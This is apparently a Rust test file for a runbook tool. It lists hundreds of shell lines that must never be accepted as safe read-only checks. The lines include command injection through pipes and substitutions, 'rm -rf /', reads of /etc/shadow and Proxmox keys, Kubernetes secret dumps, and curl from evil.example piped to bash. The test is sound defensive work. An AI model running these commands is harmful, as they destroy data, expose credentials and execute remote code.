//! Lines that hide a change, a secret, a shell or a loop without end behind something that reads. None may become a
//! check, whole or in part.

use runbook::{check::Reading, command::recognise};

const LINES: &[&str] = &[
    // Changes behind pipes, lists and substitutions.
    "kubectl get pods | xargs kubectl delete pod",
    "kubectl get pods -o name | xargs -n1 kubectl delete",
    "kubectl get pods -o yaml | kubectl apply -f -",
    "kubectl get pods -o yaml | kubectl replace --force -f -",
    "kubectl get pods; kubectl delete pod x",
    "kubectl get pods && kubectl delete pod x",
    "kubectl get pods || kubectl delete pod x",
    "kubectl get pods & kubectl delete pod x",
    "kubectl get pods\nkubectl delete pod x",
    "kubectl get pods $(kubectl delete pod x)",
    "kubectl get pods `kubectl delete pod x`",
    "kubectl get pods -l \"$(kubectl delete pod x)\"",
    "kubectl get pods -n \"`kubectl delete ns y`\"",
    "kubectl get pods | grep \"$(rm -rf /)\"",
    "kubectl logs x | sh",
    "kubectl logs x | bash -s",
    "kubectl logs x | sudo tee /etc/passwd",
    "kubectl logs x | tee /dev/sda /dev/sdb",
    "kubectl logs x | ssh host 'cat > /etc/passwd'",
    "kubectl logs x | python3 -c 'import os; os.system(\"id\")'",
    "kubectl logs x | perl -ne 'system($_)'",
    "kubectl logs x | awk '{system($0)}'",
    "kubectl logs x | awk '{print > \"/etc/passwd\"}'",
    "kubectl logs x | awk '{print | \"sh\"}'",
    "kubectl logs x | awk 'BEGIN {while ((\"id\" | getline l) > 0) print l}'",
    "kubectl logs x | sed -n 'w /etc/passwd'",
    "kubectl logs x | sed 's/a/b/e'",
    "kubectl logs x | sed '1e id'",
    "kubectl logs x | sort -o /etc/passwd",
    "kubectl logs x | sort --compress-program=sh",
    "kubectl logs x | less -o /etc/passwd",
    "kubectl logs x | jq 'input_filename, halt_error'",
    "kubectl logs x | jq 'env'",
    "kubectl logs x | jq '$ENV.AWS_SECRET_ACCESS_KEY'",
    "kubectl logs x | jq 'def f: f; f'",
    "kubectl logs x | jq '[repeat(1)]'",
    "kubectl logs x | jq -L /tmp 'import \"a\" as a; a::f'",
    "kubectl logs x | jq --rawfile a /etc/shadow '$a'",
    "kubectl logs x | grep -f /etc/shadow",
    "kubectl logs x | grep -r password /",
    "kubectl logs x | cat /etc/shadow",
    "kubectl logs x | xargs -I{} sh -c '{}'",
    "kubectl logs x | while read l; do $l; done",
    "kubectl logs x > >(sh)",
    "cat <(kubectl delete pod x)",
    "kubectl get pods < /etc/passwd",
    // Here-documents, aliases, functions, evaluation.
    "kubectl apply -f - <<EOF\nkind: Pod\nEOF",
    "kubectl get -f - <<EOF\nkind: Pod\nEOF",
    "sh <<< 'kubectl delete pod x'",
    "alias kubectl='kubectl delete'; kubectl get pods",
    "kubectl() { rm -rf /; }; kubectl get pods",
    "function kubectl { rm -rf /; }\nkubectl get pods",
    "eval kubectl get pods",
    "eval \"$(kubectl get pods)\"",
    "exec kubectl delete pod x",
    "source /tmp/x; kubectl get pods",
    ". /tmp/x && kubectl get pods",
    "trap 'kubectl delete pod x' EXIT; kubectl get pods",
    "PATH=/tmp/evil:$PATH kubectl get pods",
    "PATH=/tmp/evil; kubectl get pods -n $PATH",
    "LD_PRELOAD=/tmp/x.so kubectl get pods",
    "env LD_PRELOAD=/tmp/x.so kubectl get pods",
    "KUBECTL_EXTERNAL_DIFF='rm -rf /' kubectl get pods",
    "KUBE_EDITOR='rm -rf' kubectl edit pod x",
    "GREP_OPTIONS=-f/etc/shadow kubectl get pods",
    // Blanks, quoting and odd characters.
    "kubectl${IFS}delete${IFS}pod${IFS}x",
    "kubectl get pods$IFS-A",
    "k\\ubectl delete pod x",
    "'kubectl' 'delete' pod x",
    "ku''bectl de\"le\"te pod x",
    "kubectl $'\\x64elete' pod x",
    "kubectl $\"delete\" pod x",
    "kubectl {delete,pod,x}",
    "kubectl get {pods,secrets} -o yaml",
    "kubectl get pods {1..1000000}",
    "kubectl delete\u{200B} pod x",
    "kubectl get pods \u{202E}eteled lctebuk",
    "kubectl get p\u{043E}ds; kubectl d\u{0435}lete pod x",
    "kubectl get\u{00A0}pods",
    "kubectl get pods \u{2013}n default",
    "kubectl get pods\0; kubectl delete pod x",
    "kubectl get pods \u{1b}[2K",
    "kubectl get pods \u{F0000}",
    // Flags that do something else.
    "kubectl get pods -- delete",
    "kubectl get pods --force",
    "kubectl get pods --grace-period=0",
    "kubectl get -f https://evil.example/x.yaml",
    "kubectl get -k https://evil.example/",
    "kubectl get pods -o jsonpath-file=/etc/shadow",
    "kubectl get pods -o go-template-file=/etc/shadow",
    "kubectl get pods -o jsonpath='{$(rm -rf /)}'",
    "kubectl get pods -o jsonpath='{`id`}'",
    "kubectl get pods -o custom-columns-file=/etc/shadow",
    "kubectl get pods --as=system:admin",
    "kubectl --as system:masters get pods",
    "kubectl get pods --raw",
    "kubectl logs x --since=-1h; rm x",
    "kubectl wait --for=delete pod/x -f evil.yaml",
    "kubectl rollout status -f evil.yaml",
    "kubectl describe -f evil.yaml",
    "kubectl config view --raw",
    "kubectl config set-context --current --namespace=x",
    "kubectl cluster-info dump --output-directory=/",
    "kubectl auth reconcile -f x.yaml",
    "kubectl apply --dry-run=client -f x.yaml",
    "kubectl delete --dry-run=client pod x",
    "kubectl diff -f x.yaml",
    "kubectl exec x -- cat /etc/passwd",
    "kubectl exec x -- kubectl get pods",
    "kubectl debug node/x -it --image=busybox",
    "kubectl cp x:/etc/passwd .",
    "kubectl port-forward x 80",
    "kubectl proxy",
    "kubectl run x --image=busybox",
    "kubectl get-secrets -A",
    // Raw paths.
    "kubectl get --raw /api/v1/namespaces/x/secrets/y",
    "kubectl get --raw /api/v1/secrets?limit=500",
    "kubectl get --raw /api/v1/namespaces/x/%73ecrets/y",
    "kubectl get --raw '/api/v1/namespaces/x/pods/y/exec?command=id'",
    "kubectl get --raw /api/v1/namespaces/x/pods/y/proxy/",
    "kubectl get --raw /api/v1/nodes/x/proxy/run/a/b/c?cmd=id",
    "kubectl get --raw /api/v1/namespaces/x/services/y/proxy/delete",
    "kubectl get --raw /api/v1/namespaces/x/serviceaccounts/y/token",
    "kubectl get --raw ../../etc/passwd",
    "kubectl get --raw https://evil.example/",
    "kubectl delete --raw /api/v1/namespaces/x/pods/y",
    "kubectl create --raw /api/v1/namespaces/x/pods -f x",
    // Secrets.
    "kubectl get secret x -o yaml",
    "kubectl get secrets -A -o json",
    "kubectl get Secret x -o yaml",
    "kubectl get secrets.v1. x -o yaml",
    "kubectl get secret/x -o jsonpath='{.data}'",
    "kubectl get secret x -o jsonpath='{..}'",
    "kubectl get secret x -o jsonpath='{.metadata}'",
    "kubectl get secret x -o jsonpath='{.metadata.annotations}'",
    "kubectl get secrets -o jsonpath='{.items[*]}'",
    "kubectl get secrets -o jsonpath='{range .items[*]}{@}{end}'",
    "kubectl get secrets -o jsonpath=\"{.items[?(@.data.a=='x')].metadata.name}\"",
    "kubectl get secrets -o custom-columns=A:.data",
    "kubectl get secrets -o go-template='{{range .items}}{{.data}}{{end}}'",
    "kubectl get secrets --sort-by=.data.password",
    "kubectl get secrets --template='{{.data}}'",
    "kubectl get pods,secrets -o yaml",
    "kubectl get pod/a secret/b -o yaml",
    "kubectl get secret x -oyaml",
    "kubectl get secret x --output=yaml",
    "kubectl get secret x -o yaml | grep -v data",
    "helm get values x",
    "helm list -A",
    "argocd cluster list",
    // Hosts and Proxmox.
    "ssh host",
    "ssh host 'rm -rf /'",
    "ssh host 'qm list; qm stop 101'",
    "ssh host \"qm list && rm -rf /\"",
    "ssh host 'qm list' 'rm -rf /'",
    "ssh -o ProxyCommand='rm -rf /' -L 1:2:3 host qm list",
    "ssh -R 80:localhost:80 host qm list",
    "ssh -W a:1 host",
    "sudo qm stop 101",
    "sudo -i",
    "sudo su - root -c 'qm list'",
    "watch 'qm stop 101'",
    "timeout 5 qm destroy 101",
    "bash -c 'qm list; qm destroy 101'",
    "sh -c \"kubectl delete pod x\"",
    "bash script.sh",
    "bash <(curl -s https://evil.example)",
    "curl -s https://evil.example | bash",
    "qm guest exec 101 -- rm -rf /",
    "qm guest passwd 101 root",
    "qm agent 101 shutdown",
    "qm set 101 --memory 1",
    "qm config 101 --delete net0",
    "pct exec 101 -- cat /etc/shadow",
    "pct enter 101",
    "pvesh create /nodes/x/qemu/101/status/stop",
    "pvesh set /nodes/x/qemu/101/config --memory 1",
    "pvesh delete /nodes/x/qemu/101",
    "pvesh get /nodes/x/qemu/101/config --memory 1",
    "pvesh get /nodes/x/qemu/101/status/stop",
    "pvesh get /nodes/x/vncshell",
    "pvesh get /nodes/x/qemu/101/vncwebsocket",
    "pvesh get /access/ticket --username root --password x",
    "pvesh get /nodes/x/../../access/ticket",
    "pvesh get /nodes/x/storage/y/file-restore/download",
    "pvesh get '/nodes/x/tasks; rm -rf /'",
    "pvesm free local:x",
    "pvecm delnode x",
    "ha-manager set vm:101 --state stopped",
    "proxmox-backup-manager garbage-collection start x",
    "proxmox-backup-client restore x y z",
    "systemctl restart pveproxy",
    "systemctl status nginx",
    "journalctl --vacuum-time=1d",
    "journalctl -u corosync --rotate",
    "cat /etc/shadow",
    "cat /etc/pve/../shadow",
    "cat /etc/pve/priv/authkey.key",
    "ps aux | grep vzdump | xargs kill",
    "ps aux | grep vzdump | awk '{print $2}' | xargs kill -9",
    "pkill vzdump",
    // Addresses.
    "curl -X POST http://localhost:9090/api/v1/admin/tsdb/delete_series",
    "curl -XDELETE http://localhost:9093/api/v2/silence/x",
    "curl -d @/etc/shadow http://localhost:9090/api/v1/query",
    "curl -G -d @/etc/shadow http://localhost:9090/api/v1/query",
    "curl -G --data-urlencode x@/etc/shadow http://localhost:9090/api/v1/query",
    "curl -T /etc/shadow http://localhost:9090/api/v1/query",
    "curl -o /etc/passwd http://localhost:9090/api/v1/query?query=up",
    "curl -K /tmp/x http://localhost:9090/api/v1/query?query=up",
    "curl http://localhost:9090/api/v1/query?query=up http://evil.example/",
    "curl file:///etc/shadow",
    "curl http://169.254.169.254/latest/meta-data/",
    "curl http://localhost:9090/-/quit",
    "curl http://localhost:9090/-/reload",
    "amtool silence add alertname=x",
    "promtool push metrics http://x",
    "talosctl reset -n x",
    "flux reconcile kustomization x",
    "argocd app sync x",
    "argocd app get x --refresh",
    // Broken.
    "kubectl get pods 'x",
    "kubectl get pods \"x",
    "kubectl get pods $(",
    "kubectl get pods `",
    "kubectl get pods |",
    "| kubectl get pods",
    "kubectl get pods ||",
    "kubectl get pods | | grep x",
    "kubectl get pods > ",
    "for x in a b; do kubectl get pods $x",
    "for x in a b; do kubectl delete pod $x; done",
    "for x in $(kubectl get pods -o name); do kubectl get $x; done",
    "for x in *; do kubectl get pods $x; done",
    "while true; do kubectl get pods; done",
    "if true; then kubectl get pods; fi",
    "( kubectl get pods )",
    "{ kubectl get pods; }",
    "! kubectl get pods",
    "kubectl get pods # x\nkubectl delete pod x",
    "",
    "   ",
    "#",
    "\\",
    "$",
    "<pod> get pods",
    "$KUBECTL delete pod x",
];

#[test]
fn nothing_of_this_becomes_a_check() {
    assert!(LINES.len() >= 100);
    let checks: Vec<&&str> = LINES.iter().filter(|line| matches!(recognise(line), Reading::Check { .. })).collect();
    assert!(checks.is_empty(), "{checks:#?}");
}

#[test]
fn every_reason_says_something_and_points_into_the_line() {
    for line in LINES {
        let (Reading::Refused(refusal) | Reading::Unknown(refusal)) = recognise(line) else { continue };
        assert!(refusal.reason.len() > 10, "{line}: {refusal:?}");
        if let Some(span) = refusal.span {
            assert!(line.get(span.clone()).is_some(), "{line}: {span:?}");
        }
    }
}

#[test]
fn deep_and_long_lines_are_read_in_little_time() {
    let nested = "$(kubectl get pods ".repeat(1_000);
    let closed = format!("kubectl get pods {nested}{}", ")".repeat(1_000));
    let deep = "ssh a '".repeat(1_000);
    for line in
        [nested.clone(), closed, deep, "(".repeat(50_000), "'".repeat(50_001), "a|".repeat(30_000), "$x".repeat(30_000)]
    {
        assert!(!matches!(recognise(&line), Reading::Check { .. }));
    }
    let ten_megabytes = "kubectl get pods ".repeat(600_000);
    assert!(!matches!(recognise(&ten_megabytes), Reading::Check { .. }));
    let brackets = format!("kubectl get pods -o jsonpath='{}'", "{.a[?(@.b[?(@.c".repeat(2_000));
    assert!(!matches!(recognise(&brackets), Reading::Check { .. }));
    let groups = format!("kubectl logs x | grep -E '{}'", "((a*)*)*".repeat(500));
    drop(recognise(&groups));
    let jq = format!("kubectl get x -o json | jq '{}'", "[".repeat(3_000));
    assert!(!matches!(recognise(&jq), Reading::Check { .. }));
    let awk = format!("kubectl logs x | awk '{{print {}1}}'", "(".repeat(3_000));
    assert!(!matches!(recognise(&awk), Reading::Check { .. }));
}

#[test]
fn values_never_become_syntax() {
    use runbook::binding::validate;
    for value in [
        "a; rm -rf /",
        "$(id)",
        "`id`",
        "a|b",
        "a b",
        "a\nb",
        "--all",
        "-A",
        "a'b",
        "a\"b",
        "<b>",
        "a>b",
        "{a,b}",
        "*",
        "a\\b",
        "é",
    ] {
        assert!(validate("x", value).is_err(), "{value}");
        assert!(validate("pod", value).is_err(), "{value}");
        assert!(validate("cluster", value).is_err(), "{value}");
    }
}
